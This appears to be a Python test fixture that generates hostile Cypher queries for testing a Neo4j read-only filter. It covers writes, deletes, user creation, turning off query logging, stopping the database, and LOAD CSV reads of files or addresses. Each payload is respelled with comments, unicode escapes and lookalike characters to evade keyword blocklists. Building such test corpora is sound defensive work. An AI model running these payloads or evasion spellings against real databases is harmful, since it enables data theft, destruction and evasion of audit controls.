"""Cypher that does more than read a graph, in the spellings that get past a list of forbidden words."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

WRITES = {
    "create": "CREATE (x:Intruder {name: 'in'})",
    "create and return": "CREATE (x:Intruder) RETURN x",
    "create behind a read": "MATCH (p:Person) CREATE (p)-[:KNOWS]->(:Intruder) RETURN p",
    "merge": "MERGE (x:Intruder {name: 'in'}) RETURN x",
    "set": "MATCH (p:Person) SET p.name = 'gone' RETURN p",
    "set a label": "MATCH (p:Person) SET p:Intruder RETURN p",
    "replace all": "MATCH (p:Person) SET p = {} RETURN p",
    "remove": "MATCH (p:Person) REMOVE p.name RETURN p",
    "remove a label": "MATCH (p:Person) REMOVE p:Person RETURN p",
    "delete": "MATCH (p:Person)-[k]-() DELETE k RETURN 1",
    "detach delete": "MATCH (p) DETACH DELETE p RETURN count(*)",
    "foreach": "MATCH (p:Person) FOREACH (x IN [1] | SET p.name = 'gone') RETURN 1",
    "in a subquery": "CALL { CREATE (x:Intruder) RETURN x } RETURN x",
    "in a subquery with a scope": "MATCH (p:Person) CALL (p) { SET p.name = 'gone' } RETURN p",
    "in a subquery that commits": "MATCH (p:Person) CALL (p) { DETACH DELETE p } IN TRANSACTIONS OF 1 ROW RETURN 1",
    "commits side by side": "UNWIND [1] AS i CALL (i) { CREATE (:Intruder) } IN 2 CONCURRENT TRANSACTIONS RETURN 1",
    "behind a union": "MATCH (p:Person) RETURN p UNION CREATE (p:Intruder) RETURN p",
    "index": "CREATE INDEX intruder FOR (p:Person) ON (p.name)",
    "constraint": "CREATE CONSTRAINT intruder FOR (p:Person) REQUIRE p.name IS UNIQUE",
    "drop": "DROP INDEX known IF EXISTS",
    "user": "CREATE USER intruder SET PASSWORD 'long-enough' CHANGE NOT REQUIRED",
    "password": "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'long-enough'",
    "two statements": "MATCH (p) RETURN p; CREATE (x:Intruder)",
    "two statements on two lines": "RETURN 1;\nMATCH (p) DETACH DELETE p",
}
LEAKS = {
    "file": "LOAD CSV FROM 'FILE' AS line RETURN line",
    "file with headers": "LOAD CSV WITH HEADERS FROM 'FILE' AS line RETURN line",
    "file behind a read": "MATCH (p:Person) LOAD CSV FROM 'FILE' AS line RETURN line",
    "file after unwind": "UNWIND ['FILE'] AS url LOAD CSV FROM url AS line RETURN line",
    "file after a limit": "WITH 1 AS x LIMIT 1 LOAD CSV FROM 'FILE' AS line RETURN line",
    "file in a subquery": "CALL { LOAD CSV FROM 'FILE' AS line RETURN line } RETURN line",
    "file in a collection": "RETURN COLLECT { LOAD CSV FROM 'FILE' AS line RETURN line } AS lines",
    "file in a count": "RETURN COUNT { LOAD CSV FROM 'FILE' AS line RETURN line } AS lines",
    "file behind a union": "RETURN 1 AS line UNION LOAD CSV FROM 'FILE' AS line RETURN line",
    "file by parts": "WITH 'FILE' AS whole LOAD CSV FROM left(whole, 5) + substring(whole, 5) AS line RETURN line",
    "file by parameter": "LOAD CSV FROM $file AS line RETURN line",
    "file with a terminator": "LOAD CSV FROM 'FILE' AS line FIELDTERMINATOR ';' RETURN line",
    "address": "LOAD CSV FROM 'ADDRESS' AS line RETURN line",
    "address by parts": "MATCH (p:Person) LOAD CSV FROM 'ADDRESS?' + p.name AS line RETURN line",
    "address in a subquery": "MATCH (p:Person) CALL (p) { LOAD CSV FROM 'ADDRESS' AS line RETURN line } RETURN line",
    "address for existence": "MATCH (p) WHERE EXISTS { LOAD CSV FROM 'ADDRESS' AS line RETURN line } RETURN p",
}
COMMANDS = {
    "settings": "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "set a setting": "CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')",
    "procedures": "CALL dbms.listQueries() YIELD query RETURN query",
    "a label by procedure": "CALL db.createLabel('Intruder')",
    "a type by procedure": "CALL db.createRelationshipType('INTRUDES')",
    "a property by procedure": "CALL db.createProperty('intruder')",
    "an index by procedure": "CALL db.index.vector.createNodeIndex('intruder', 'Person', 'v', 8, 'cosine')",
    "clear caches": "CALL db.clearQueryCaches()",
    "a procedure behind a read": "MATCH (p:Person) CALL db.createLabel('Intruder') RETURN p",
    "a procedure in a subquery": "CALL { CALL db.createLabel('Intruder') RETURN 1 AS one } RETURN one",
    "metrics": "CALL dbms.queryJmx('*:*') YIELD name RETURN name",
    "routing": "CALL dbms.routing.getRoutingTable({}) YIELD servers RETURN servers",
    "kill connections": "CALL dbms.killConnections(['bolt-1'])",
    "metadata": "CALL tx.setMetaData({user: 'somebody else'})",
    "extension": "CALL apoc.load.json('ADDRESS') YIELD value RETURN value",
    "extension as a function": "RETURN apoc.cypher.runFirstColumnSingle('CREATE (x:Intruder)', {}) AS x",
    "extension that runs": "CALL apoc.cypher.doIt('CREATE (x:Intruder)', {}) YIELD value RETURN value",
    "show users": "SHOW USERS",
    "show settings": "SHOW SETTINGS YIELD name, value",
    "show transactions": "SHOW TRANSACTIONS YIELD transactionId, currentQuery",
    "terminate": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "show and terminate": "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message",
    "another database": "USE system SHOW USERS",
    "another database's users": "USE system MATCH (u:User) RETURN u",
    "profile": "PROFILE CREATE (x:Intruder)",
    "explain, then": "EXPLAIN RETURN 1; CREATE (x:Intruder)",
    "options": "CYPHER runtime=slotted CREATE (x:Intruder)",
    "other version": "CYPHER 25 MATCH (p) SET p.name = 'gone'",
    "stop": "STOP DATABASE neo4j",
}
HIDDEN = {
    "behind an escaped quote": r"RETURN 'a\' AS x, 'b' AS y CREATE (x:Intruder) //'",
    "quote by number": r"RETURN 'a\u0027 AS a LOAD CSV FROM \u0027FILE\u0027 AS line RETURN line //'",
    "quote by number, doubled": r"RETURN 'a\\u0027 AS a LOAD CSV FROM \\u0027FILE\\u0027 AS line RETURN line //'",
    "line by number": r"RETURN 1 AS line // \u000a UNION LOAD CSV FROM 'FILE' AS line RETURN line",
    "comment by number": r"RETURN 1 AS line \u002f* ' *\u002f UNION LOAD CSV FROM 'FILE' AS line RETURN line //'",
    "comment that ends early": "RETURN 1 AS line /* /* */ UNION LOAD CSV FROM 'FILE' AS line RETURN line // */",
    "comment in a string": "RETURN '/*' AS line UNION LOAD CSV FROM 'FILE' AS line RETURN line // */",
    "name like a comment": "WITH 1 AS `/*` LOAD CSV FROM 'FILE' AS line RETURN line // */",
    "name with a quote": "WITH 1 AS `'` LOAD CSV FROM 'FILE' AS line RETURN line // '",
    "name with a quote of names": "WITH 1 AS `a``'` LOAD CSV FROM 'FILE' AS line RETURN line // '",
    "name like a colon": "RETURN 1 AS `:` UNION SHOW USERS",
    "name before a call": "MATCH (p:Person) WITH 1 AS call CALL db.createLabel('Intruder') RETURN call",
    "number before a call": "WITH 1 AS x LIMIT 1.CALL db.createLabel('Intruder') RETURN x",
    "line of another system": "RETURN 1 AS line // it's\r UNION LOAD CSV FROM 'FILE' AS line RETURN line //'",
    "separator of lines": "RETURN 1 AS line // \u2028 ' \n UNION LOAD CSV FROM 'FILE' AS line RETURN line // '",
    "next line": "RETURN 1 AS line // \u0085 ' \n UNION LOAD CSV FROM 'FILE' AS line RETURN line // '",
    "end of text": "RETURN 1 AS x \x00 LOAD CSV FROM 'FILE' AS line RETURN line",
    "quoted procedure": "CALL `db`.`createLabel`('Intruder')",
    "quoted procedure in one": "CALL `db.createLabel`('Intruder')",
    "spaced procedure": "CALL db . createLabel ( 'Intruder' )",
    "commented procedure": "CALL db./* labels() */createLabel('Intruder')",
    "procedure by number": r"CALL db.create\u004cabel('Intruder')",
    "quoted function": "RETURN `apoc`.`cypher`.`runFirstColumnSingle`('CREATE (x:Intruder)', {}) AS x",
    "two-faced letters": "LOAD C\u017fV FROM 'FILE' AS line RETURN line",
    "wide letters": "\uff2c\uff2f\uff21\uff24 CSV FROM 'FILE' AS line RETURN line",
    "other space": "LOAD\u00a0CSV\u2003FROM\u00a0'FILE' AS line RETURN line",
    "no space": "MATCH (p)LOAD CSV FROM'FILE'AS line RETURN line",
    "string that continues": "RETURN 'open AS line LOAD CSV FROM 'FILE' AS line RETURN line",
}
SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "lower case": lambda text: _words(text, str.lower),
    "mixed case": lambda text: _words(
        text, lambda word: "".join(c.lower() if i % 2 else c for i, c in enumerate(word))
    ),
    "comments": lambda text: re.sub(r" (?=[A-Z(])", " /* MATCH (n) RETURN n */ ", text),
    "lines": lambda text: re.sub(r" (?=[A-Z(])", " // nothing\n", text),
    "tabs": lambda text: text.replace(" ", "\t\r\n"),
    "first letters by number": lambda text: _words(text, lambda word: f"\\u{ord(word[0]):04x}{word[1:]}"),
    "all letters by number": lambda text: _words(text, lambda word: "".join(f"\\u{ord(c):04X}" for c in word)),
    "behind a reading clause": lambda text: f"WITH 1 AS one {text}",
}


def hostile(file: str, address: str) -> Iterator[tuple[str, str]]:
    """Every statement with its name; `file` and `address` are what it must not reach."""
    for family in (WRITES, LEAKS, COMMANDS):
        for name, text in family.items():
            for spelling, respell in SPELLINGS.items():
                yield f"{name}, {spelling}", respell(text).replace("FILE", file).replace("ADDRESS", address)
    for name, text in HIDDEN.items():
        yield name, text.replace("FILE", file).replace("ADDRESS", address)


def _words(text: str, change: Callable[[str], str]) -> str:
    """Keywords are what is written in capitals; FILE and ADDRESS are places, not words."""
    return re.sub(r"\b(?!FILE|ADDRESS)[A-Z]{3,}\b", lambda match: change(match[0]), text)
